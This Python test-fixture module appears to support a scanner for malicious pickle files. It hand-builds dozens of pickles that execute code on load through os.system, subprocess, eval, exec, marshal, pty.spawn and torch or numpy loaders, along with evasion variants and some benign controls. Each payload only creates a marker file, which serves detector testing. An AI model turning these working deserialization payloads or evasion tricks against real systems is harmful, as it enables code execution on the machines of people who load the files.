"""Pickles that would run code: each touches a marker file when anything calls what it names. Opcodes by hand, so that no pickler has a say."""

from __future__ import annotations

import marshal
import struct

from support.builders import pickled


def text(value: str) -> bytes:
    return b"X" + struct.pack("<I", len(value.encode())) + value.encode()


def short(value: str) -> bytes:
    return b"\x8c" + bytes([len(value)]) + value.encode()


def payloads(marker: str) -> dict[str, bytes]:
    """Name -> a whole pickle that creates `marker` when it is run."""
    shell = f"touch '{marker}'"
    code = f"open({marker!r},'w')"
    call = text(shell) + b"\x85R."
    inner = b"\x80\x02cposix\nsystem\n" + call
    compiled = marshal.dumps(compile(code, "x", "eval"))
    return {
        "os.system": b"\x80\x02cos\nsystem\n" + call,
        "posix.system": inner,
        "nt.system": b"\x80\x02cnt\nsystem\n" + call,
        "subprocess": b"\x80\x02csubprocess\ncheck_output\n](" + text("touch") + text(marker) + b"e\x85R.",
        "builtins.eval": b"\x80\x02cbuiltins\neval\n" + text(code) + b"\x85R.",
        "__builtin__.eval": b"\x80\x02c__builtin__\neval\n" + text(code) + b"\x85R.",
        "builtins.exec": b"\x80\x02cbuiltins\nexec\n" + text(code) + b"\x85R.",
        "builtins.__import__": b"\x80\x02cbuiltins\n__import__\n" + text("antigravity") + b"\x85R.",
        "builtins.getattr": b"\x80\x02cbuiltins\ngetattr\ncos\nsystem\n" + text("__call__") + b"\x86R" + text(shell) + b"\x85R.",
        "importlib.import_module": b"\x80\x02cimportlib\nimport_module\n" + text("this") + b"\x85R.",
        "marshal.loads": b"\x80\x03cmarshal\nloads\nB" + struct.pack("<I", len(compiled)) + compiled + b"\x85R.",
        "runpy": b"\x80\x02crunpy\nrun_path\n" + text(marker) + b"\x85R.",
        "pty.spawn": b"\x80\x02cpty\nspawn\n" + text("id") + b"\x85R.",
        "operator.attrgetter": b"\x80\x02coperator\nattrgetter\n" + text("system") + b"\x85R.",
        "INST": b"(" + text(shell) + b"ios\nsystem\n.",
        "OBJ": b"(cos\nsystem\n" + text(shell) + b"o.",
        "STACK_GLOBAL": b"\x80\x04" + short("os") + short("system") + b"\x93" + text(shell) + b"\x85R.",
        "STACK_GLOBAL from the memo": b"\x80\x04" + short("system") + b"\x940" + short("os") + b"h\x00\x93" + text(shell) + b"\x85R.",
        "STACK_GLOBAL from a list of decoys": b"\x80\x04](" + short("os") + b"\x94e0h\x00" + short("system") + b"\x93" + text(shell) + b"\x85R.",
        "STACK_GLOBAL dotted": b"\x80\x04" + short("torch") + short("serialization.os.system") + b"\x93" + text(shell) + b"\x85R.",
        "NEWOBJ": b"\x80\x02csubprocess\nPopen\n](" + text("touch") + text(marker) + b"e\x85\x81.",
        "NEWOBJ_EX": b"\x80\x04csubprocess\nPopen\n](" + text("touch") + text(marker) + b"e\x85}\x92.",
        "protocol 0": b"cos\nsystem\n(S'" + shell.replace("'", "\\'").encode() + b"'\ntR.",
        "protocol 0 escapes": b"ccommands\ngetoutput\n(S'\\164ouch \\x27x'\ntR.",
        "_load_from_bytes": b"\x80\x03ctorch.storage\n_load_from_bytes\nB" + struct.pack("<I", len(inner)) + inner + b"\x85R.",
        "torch.load": b"\x80\x02ctorch\nload\n" + text(marker) + b"\x85R.",
        "torch.hub": b"\x80\x02ctorch.hub\nload\n" + text("evil/repo") + text("evil") + b"\x86R.",
        "numpy.load": b"\x80\x02cnumpy\nload\n" + text(marker) + b"\x85R.",
        "hidden in a dict": b"\x80\x02}(" + text("weight") + b"}" + text("x") + b"cos\nsystem\n" + text(shell) + b"\x85Ru.",
        "popped again": b"\x80\x02cos\nsystem\n" + text(shell) + b"\x85R0}.",
        "in a dict key": b"\x80\x02}cos\nsystem\n" + text(shell) + b"\x85RNs.",
        "in a state": b"\x80\x02cutils\nHParams\n)\x81}" + text("x") + b"cos\nsystem\n" + text(shell) + b"\x85Rsb.",
        "in a persistent id": b"\x80\x02cos\nsystem\n" + text(shell) + b"\x85RQ.",
        "never called": b"\x80\x02cos\nsystem\n.",
        "before the damage": b"\x80\x02cos\nsystem\n" + text(shell) + b"\x85R\xff.",
        "before the end": b"\x80\x02cos\nsystem\n" + text(shell) + b"\x85R",
    }


CLEAN: dict[str, bytes] = {
    "nothing": pickled({}),
    "ordered": b"\x80\x02ccollections\nOrderedDict\n)R.",
    "hparams": b"\x80\x02cutils\nHParams\n)\x81}" + text("version") + text("v2") + b"sb.",
    "path": b"\x80\x02cpathlib\nPosixPath\n" + text("/") + text("x") + b"\x86R.",
    "path of Python 3.13": b"\x80\x02cpathlib._local\nWindowsPath\n" + text("C:\\") + b"\x85R.",
    "bytes": b"\x80\x02c_codecs\nencode\n" + text("x") + text("latin1") + b"\x86R.",
}
